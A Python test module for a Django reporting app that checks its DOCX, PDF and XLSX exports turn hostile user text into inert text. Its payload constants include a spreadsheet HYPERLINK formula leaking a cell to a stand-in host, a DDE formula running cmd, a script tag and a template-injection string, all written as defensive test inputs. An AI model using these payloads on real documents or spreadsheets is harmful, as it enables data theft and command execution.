"""Hostile narratives come out inert: no script, no formula, no field, no template code, no control
character, in DOCX, PDF and XLSX alike."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook

from stiplan.documents import content as assembly
from stiplan.documents.pdf import render_pdf
from stiplan.documents.word import render_docx
from stiplan.documents.workbook import render_xlsx
from stiplan.reporting.models import ActionItem, ReportState

from .conftest import docx_xml, needs, pdf_text, shipped

SCRIPT = "<script>alert('x')</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
JINJA = "{{ 7*7 }} {% for x in range(3) %}lặp{% endfor %}"
CONTROL = "tab\there\x01bell\x07esc\x1b[31m\x0bvt\x0cff\x7fdel"
LESS_THAN = "Tỷ lệ < 5% & tăng > 2"
HOSTILE = [SCRIPT, HYPERLINK, DDE, JINJA, CONTROL, LESS_THAN, "+SUM(1;2)", "@SUM(A1)", "-2+3"]


@pytest.fixture
def hostile(demo):
    """Every accepted report's first item says something hostile, and so do the staff's inputs."""
    items = ActionItem.objects.filter(report__round=demo, report__state=ReportState.ACCEPTED)
    for i, item in enumerate(items.order_by("pk")[:len(HOSTILE)]):
        text = HOSTILE[i]
        # written straight to the database, as an old import might have: the document must not
        # rely on the web form's cleaning
        ActionItem.objects.filter(pk=item.pk).update(done=text, results=text, difficulties=text,
                                                     proposals=text)
    return assembly.annual(demo, {"directions": "\n".join(HOSTILE), "signer_name": SCRIPT,
                                  "number": "=1+1"})


def test_content_is_plain_text_without_control_characters(hostile):
    texts = [e["text"] for g in hostile["groups"] for a in g["actions"] for e in a["entries"]]
    texts += [d["text"] for d in hostile["difficulties"]] + hostile["directions"]
    joined = "\n".join(texts)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", joined)
    assert "=HYPERLINK(" in joined and DDE in joined and "{{ 7*7 }}" in joined  # kept, as text
    assert "<script>" not in joined  # the tags of a narrative are dropped


def test_docx_shows_it_as_text(hostile):
    docx = render_docx(hostile, shipped("annual", "default"))
    xml = docx_xml(docx)
    etree.fromstring(xml.encode())  # still well-formed XML
    assert "<script" not in xml and "alert(" not in xml  # a script is dropped whole
    assert "Tỷ lệ &lt; 5% &amp; tăng &gt; 2" in xml  # angle brackets escaped
    assert "{{ 7*7 }}" in xml and ">49<" not in xml  # not evaluated by the template engine
    assert "=HYPERLINK(" in xml and "<w:hyperlink" not in xml
    assert "<w:fldSimple" not in xml and "<w:instrText" not in xml  # no Word field in the body
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", xml)
    with zipfile.ZipFile(io.BytesIO(docx)) as z:
        rels = z.read("word/_rels/document.xml.rels").decode()
    assert "evil.example" not in rels and 'TargetMode="External"' not in rels


@needs
def test_pdf_shows_it_as_text_without_links(hostile, tmp_path):
    pdf = render_pdf(hostile)
    text = pdf_text(pdf, tmp_path)
    assert "alert(" not in text and LESS_THAN in text
    assert "=HYPERLINK(" in text and "{{ 7*7 }}" in text
    assert b"/URI" not in pdf and b"/JavaScript" not in pdf and b"/Launch" not in pdf


def test_xlsx_has_no_formula_anywhere(hostile):
    book = load_workbook(io.BytesIO(render_xlsx(hostile)))
    seen = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
                    seen += 1
                if isinstance(cell.value, str):
                    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", cell.value)
    assert seen >= 6  # the hostile texts are there, as text


@pytest.mark.django_db  # the module fixture reads the test database
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=60))
def test_any_narrative_gives_a_well_formed_docx(annual_content, text):
    content = {**annual_content, "directions": [assembly.plain(text) or "-"],
               "signature": {**annual_content["signature"], "name": assembly.plain(text)}}
    xml = docx_xml(render_docx(content, shipped("annual", "default")))
    etree.fromstring(xml.encode())
